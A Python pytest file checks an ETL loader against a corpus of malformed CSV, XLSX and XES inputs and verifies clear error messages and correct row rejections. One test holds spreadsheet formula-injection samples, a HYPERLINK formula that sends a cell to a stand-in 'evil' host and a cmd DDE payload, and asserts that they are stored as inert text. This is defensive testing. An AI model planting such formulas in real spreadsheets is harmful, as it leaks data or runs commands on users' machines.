"""The bad-input corpus (tests/bad_input/, made by make_corpus.py there): every malformed file either
fails with one clear LandDeskError sentence that names the file, leaving the store's data unchanged,
or loads exactly its good records with the bad ones in etl_rejects with the right reason.
"""
from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import func, select

from etl import schema as S
from etl.load import list_batches, list_rejects, load_mapping
from etl_helpers import cli_load, FIXTURES, snapshot, table, write_mapping
from landdesk.errors import LandDeskError

BAD = Path(__file__).resolve().parent / "bad_input"
ROOT = Path(__file__).resolve().parent.parent

CASES = {
    "dataset": "cases",
    "columns": {"case_id": "办件编号", "service_item": "事项名称", "received_at": "受理时间", "closed_at": "办结时间",
                "status": "办理状态", "channel": "渠道", "township": "乡镇", "visits": "跑动次数", "rating": "评价"},
    "values": {"status": {"办结": "closed", "在办": "open"}, "channel": {"窗口": "window", "网上": "online"}},
    "reject_threshold": 0.5,
}
PETITIONS = {
    "dataset": "petitions",
    "columns": {"petition_id": "信访编号", "received_at": "登记日期", "channel": "来信来访方式", "topic": "问题类别",
                "township": "所属乡镇", "summary": "诉求摘要"},
    "values": {"channel": {"来访": "visit", "网上": "online", "来信": "letter"}},
}
LAND = {
    "dataset": "land_use",
    "columns": {"region_code": "行政区代码", "region_name": "行政区名称", "year": "年度", "category_code": "地类编码",
                "area_ha": "面积（公顷）"},
    "reject_threshold": 0.5,
}
EVENTS = {
    "dataset": "case_events",
    "columns": {"case_id": "case:concept:name", "stage": "concept:name", "completed_at": "time:timestamp"},
}


def m(base: dict, file: str, **extra) -> dict:
    source = {"path": str(BAD / file), **extra.pop("source", {})}
    return {**base, "source": source, **extra}


# name: (mapping, expectation). Expectation: ("error", regex) or ("partial", loaded, {row: reason regex}).
CORPUS = {
    "wrong encoding": (m(PETITIONS, "wrong_encoding.csv", source={"encoding": "utf-8"}),
                       ("error", r"cannot be decoded as utf-8 \(byte \d+\)")),
    "neither utf-8 nor gb18030": (m({**CASES, "values": {}, "columns": {"case_id": "id", "received_at": "name"}}, "latin1.csv"),
                                  ("error", "is neither UTF-8 nor GB18030 text")),
    "bom + gb18030 mix": (m(PETITIONS, "bom_gb18030_mix.csv"), ("error", "byte-order mark but is not UTF-8")),
    "binary garbage .csv": (m(CASES, "binary_garbage.csv"), ("error", "is binary, not a CSV text file")),
    "pdf named .csv": (m(CASES, "pdf_named.csv"), ("error", "is a PDF file, not csv")),
    "xlsx named .csv": (m(CASES, "xlsx_named.csv"), ("error", "is an xlsx/zip file, not csv")),
    "csv named .xlsx": (m(LAND, "csv_named.xlsx"), ("error", "is not an xlsx workbook")),
    "empty file": (m(CASES, "empty.csv"), ("error", "is empty")),
    "blank lines only": (m(CASES, "blank_lines.csv"), ("error", "is empty|has no records")),
    "header only": (m(CASES, "header_only.csv"), ("error", "has no records")),
    "no events in any trace": (m(EVENTS, "events_missing_timestamp.xes", source={}), ("error", "has no column")),
    "missing required column": (m(CASES, "missing_column.csv"), ("error", r"has no column .*'办结时间'")),
    "duplicate header": (m({**CASES, "values": {}, "columns": {"case_id": "办件编号", "received_at": "受理时间"}}, "duplicate_header.csv"),
                         ("error", "duplicate column header")),
    "ragged row": (m(CASES, "ragged_row.csv"), ("error", r"is not a well-formed CSV file \(.*line 4")),
    "unclosed quote": (m(CASES, "unclosed_quote.csv"), ("error", "is not a well-formed CSV file")),
    "html error page": (m(CASES, "html_error_page.csv"), ("error", "has no column")),
    "truncated csv.gz": (m(CASES, "truncated.csv.gz"), ("error", "truncated or corrupt gzip")),
    "truncated xes.gz": (m(EVENTS, "truncated.xes.gz"), ("error", "truncated or corrupt gzip")),
    "xml that is not xes": (m(EVENTS, "not_xes.xml", source={"format": "xes"}),
                            ("error", r"not an XES event log \(root element <rss>\)")),
    "malformed xes": (m(EVENTS, "malformed.xes"), ("error", "is not well-formed XML")),
    "xes without traces": (m(EVENTS, "no_traces.xes"), ("error", "has no records")),
    "events without timestamps": (m(EVENTS, "events_missing_timestamp.xes"),
                                  ("error", "has no column 'time:timestamp'")),
    "missing sheet": (m(LAND, "one_sheet.xlsx", source={"sheet": "不存在"}), ("error", r"has no sheet '不存在' \(sheets: Sheet1\)")),
    "sheet index out of range": (m(LAND, "one_sheet.xlsx", source={"sheet": 3}), ("error", "has no sheet 3")),
    "too many rejects": (m({**CASES, "reject_threshold": 0.05}, "all_bad.csv"),
                         ("error", r"10 rows read, none kept, so nothing was loaded: every row was rejected — most often "
                                   r"\(10 of 10\) for 'received_at … is not a date/time'; check the mapping's `date_formats:`")),
    "unknown code": (m(CASES, "unknown_code.csv"), ("partial", 2, {4: "channel is not one of window/online"})),
    "date in the future": (m(CASES, "future_date.csv"), ("partial", 2, {4: "received_at is in the future"})),
    "date before 1949": (m(CASES, "before_1949.csv"), ("partial", 2, {4: "received_at is before 1949"})),
    "not a date": (m(CASES, "not_a_date.csv"), ("partial", 2, {4: "received_at '三月五日上午' is not a date/time"})),
    "closed before received": (m(CASES, "closed_before_received.csv"), ("partial", 2, {4: "closed_at is before received_at"})),
    "not a number": (m(CASES, "bad_number.csv"), ("partial", 2, {4: "visits '两次' is not a whole number"})),
    "rating out of range": (m(CASES, "rating_out_of_range.csv"), ("partial", 2, {4: "rating is above 5"})),
    "missing required value": (m(CASES, "missing_required_value.csv"), ("partial", 2, {4: "received_at is missing"})),
    "duplicate keys": (m(CASES, "duplicate_keys.csv"), ("partial", 2, {2: r"duplicate key \(case_id\)"})),
    "negative area": (m(LAND, "negative_area.csv"), ("partial", 2, {4: "area_ha is below 0"})),
    "unknown land-use code": (m(LAND, "unknown_land_code.csv"), ("partial", 2, {4: "not a GB/T 21010 land-use code"})),
    "year out of range": (m(LAND, "year_out_of_range.csv"), ("partial", 2, {4: "year is not a year from 1949"})),
    "events of unknown cases": (m({**EVENTS, "derive_cases": False, "reject_threshold": 0.5}, "events_unknown_cases.xes"),
                                ("partial", 2, {3: "case_id is not a known case"})),
}


def _baseline(engine, tmp_path) -> None:
    """A store with data in it (cases C1, C2 and their events), so 'unchanged' means something."""
    doc = {**EVENTS, "source": {"path": str(FIXTURES / "events.xes")},
           "columns": {**EVENTS["columns"], "lifecycle": "lifecycle:transition"}}
    assert load_mapping(engine, write_mapping(tmp_path, "baseline.yaml", doc)).status == "loaded"


def test_corpus_is_big_enough_and_tiny():
    files = [p for p in BAD.iterdir() if p.suffix != ".py" and p.is_file()]
    assert len(files) >= 30 and len(CORPUS) >= 30
    assert sum(p.stat().st_size for p in files) < 200_000
    used = {Path(doc["source"]["path"]).name for doc, _ in CORPUS.values()}
    assert used <= {p.name for p in files}


@pytest.mark.parametrize("case", list(CORPUS))
def test_bad_input(engine, tmp_path, case):
    doc, expected = CORPUS[case]
    _baseline(engine, tmp_path)
    before = snapshot(engine)
    mapping = write_mapping(tmp_path, "bad.yaml", doc)
    source = Path(doc["source"]["path"]).name
    if expected[0] == "error":
        with pytest.raises(LandDeskError, match=expected[1]) as info:
            load_mapping(engine, mapping)
        message = str(info.value)
        assert "\n" not in message and "Traceback" not in message and len(message) < 600
        assert source in message, f"the message should name the file: {message}"
        assert snapshot(engine) == before
        assert list_batches(engine).status.iloc[0] == "failed"
        return
    _, loaded, reasons = expected
    r = load_mapping(engine, mapping)
    assert (r.status, r.rows_loaded, r.rows_rejected) == ("loaded", loaded, len(reasons))
    rej = list_rejects(engine, r.batch_id).set_index("row_number")["reason"]
    assert sorted(rej.index) == sorted(reasons)
    for row, pattern in reasons.items():
        assert pd_search(pattern, rej[row]), f"row {row}: {rej[row]!r} does not match {pattern!r}"


def pd_search(pattern: str, text: str) -> bool:
    import re
    return re.search(pattern, text) is not None


def test_formula_strings_are_stored_as_plain_text(engine, tmp_path):
    """=HYPERLINK(…), +cmd|…, @SUM(…), -2+3: loaded verbatim as text, never evaluated (exports must neutralise them)."""
    r = load_mapping(engine, write_mapping(tmp_path, "f.yaml", m(PETITIONS, "formula_strings.csv")))
    assert (r.rows_loaded, r.rows_rejected) == (3, 0)
    p = table(engine, "petitions", "petition_id").set_index("petition_id")
    assert p.loc["F1", "topic"] == '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    assert p.loc["F1", "summary"] == "=1+2"
    assert p.loc["F2", "topic"] == "+cmd|' /C calc'!A0" and p.loc["F2", "summary"] == "@SUM(1+1)*cmd"
    assert p.loc["F3", "topic"] == "-2+3"


def test_merged_header_cells_xlsx(engine, tmp_path):
    """A two-row header whose top cells are merged (行政区 over 代码 | 名称; 年度 and 面积 merged downwards),
    under a merged title row; the header row is found by the mapped names."""
    doc = m({**LAND, "columns": {"region_code": "行政区/代码", "region_name": "行政区/名称", "year": "年度",
                                 "category_code": "地类编码", "area_ha": "面积（公顷）"}}, "merged_header.xlsx")
    r = load_mapping(engine, write_mapping(tmp_path, "lu.yaml", doc))
    assert (r.rows_read, r.rows_loaded, r.rows_rejected) == (3, 3, 0)
    lu = table(engine, "land_use", "region_code")
    assert list(lu.region_name) == ["城关镇", "石桥镇", "云溪镇"] and list(lu.area_ha) == [1234.5, 987.25, 2200.0]
    doc["columns"].update(region_code="代码", region_name="名称")     # the bottom header cells alone work too
    r = load_mapping(engine, write_mapping(tmp_path, "lu2.yaml", doc))
    assert (r.rows_loaded, r.rows_rejected) == (3, 0)
    rej = list_rejects(engine, r.batch_id)
    assert rej.empty


def test_a_50_mb_single_field(engine, tmp_path):
    """One 50 MB summary: that record is rejected (too long), its raw record is cut short, the others load."""
    path = tmp_path / "huge.csv"
    with open(path, "w", encoding="utf-8") as fh:
        fh.write("信访编号,登记日期,来信来访方式,问题类别,所属乡镇,诉求摘要\n")
        fh.write("H1,2024-03-01,来访,征地补偿,青山镇,正常\n")
        fh.write('H2,2024-03-02,来访,征地补偿,青山镇,"' + "很长的诉求" * (10 * 1024 * 1024) + '"\n')
        fh.write("H3,2024-03-03,来信,征地补偿,青山镇,正常\n")
    assert path.stat().st_size > 50_000_000
    r = load_mapping(engine, write_mapping(tmp_path, "p.yaml", {**PETITIONS, "source": {"path": str(path)},
                                                                  "reject_threshold": 0.5}))
    assert (r.rows_read, r.rows_loaded, r.rows_rejected) == (3, 2, 1)
    rej = list_rejects(engine, r.batch_id)
    assert list(rej.row_number) == [3] and "summary is longer than" in rej.reason[0]
    assert len(rej.raw[0]) < 2000
    with engine.connect() as conn:
        assert conn.execute(select(func.max(func.length(S.petitions.c.summary)))).scalar_one() == 2


@pytest.mark.parametrize("case", ["missing sheet", "bom + gb18030 mix", "truncated xes.gz"])
def test_cli_prints_one_sentence_and_exits_2(tmp_path, case):
    doc, (_, pattern) = CORPUS[case]
    mapping = write_mapping(tmp_path, "bad.yaml", doc)
    p = cli_load(tmp_path, mapping)
    assert p.returncode == 2
    lines = p.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("landdesk: ") and "Traceback" not in p.stderr
    assert pd_search(pattern, lines[0])
